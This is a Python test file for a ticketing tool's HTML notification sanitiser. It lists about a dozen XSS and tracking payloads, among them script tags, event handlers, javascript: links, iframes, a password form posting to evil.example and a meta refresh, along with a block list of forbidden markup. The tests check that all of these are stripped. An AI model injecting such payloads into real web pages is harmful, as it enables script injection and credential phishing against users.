"""The HTML part of a notification: a hostile sender's HTML reaches other readers as harmless formatting."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest
from relaydesk.tickets import render

AT = datetime(2026, 11, 24, 9, 0, tzinfo=UTC)
HOSTILE = {
    "script": "<script>alert(1)</script><p>hi</p>",
    "handler": '<p onclick="alert(1)" onmouseover=alert(1)>hi</p>',
    "remote image": '<img src="https://track.example/pixel.gif?u=jane">',
    "css url": '<p style="background:url(https://track.example/x)">hi</p><style>p{background:url(//t.example)}</style>',
    "javascript link": '<a href="javascript:alert(1)">click</a><a href=" jAvAsCrIpT:alert(1)">x</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "iframe": '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src=x>',
    "form": '<form action="https://evil.example"><input name=password></form>',
    "svg": '<svg onload=alert(1)><use href="https://evil.example/#x"/></svg>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://e.example">',
    "link stylesheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "comment trick": "<!--<script>--><p>hi</p><!-- --><script>alert(1)</script>",
    "unclosed": "<div><b>never closed <a href='https://ok.example'>ok",
}
FORBIDDEN = ("<script", "onclick", "onmouseover", "onload", "<img", "url(", "javascript:", "data:", "<iframe",
             "<object", "<embed", "<form", "<input", "<svg", "<meta", "<base", "<link", "<style", "style=\"background")


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_html_from_a_sender_loads_and_runs_nothing(name):
    part = render.html_part("news", None, [render.Message(author="Mallory", at=AT, text="t", html=HOSTILE[name])], "f")
    lowered = part.lower()
    assert not [f for f in FORBIDDEN if f in lowered], part


def test_links_survive_without_a_referrer_and_formatting_survives():
    cleaned = render.sanitise('<p>See <a href="https://docs.example/fix">the fix</a> <b>today</b></p>')
    assert '<a href="https://docs.example/fix" rel="noopener noreferrer nofollow">the fix</a>' in cleaned
    assert "<b>today</b>" in cleaned


def test_plain_text_is_escaped_not_interpreted():
    part = render.html_part("", render.Message(author="<b>Bob</b>", at=AT, text="a < b & <script>x</script>"), [], "")
    assert "<script>" not in part and "a &lt; b &amp; &lt;script&gt;" in part


def test_a_sender_whose_html_cleans_to_nothing_is_shown_by_their_text():
    part = render.html_part("", render.Message(author="x", at=AT, text="the words", html="<script>x</script>"), [], "")
    assert "the words" in part


def test_the_html_part_stays_within_its_budget_however_long_the_thread():
    huge = render.Message(author="x", at=AT, text="t", html="<p>" + "y" * 60_000 + "</p>")
    part = render.html_part("", None, [huge] * 20, "")
    assert len(part) <= render.HTML_BUDGET + 2000 and part.count("<blockquote") <= render.EARLIER_SHOWN
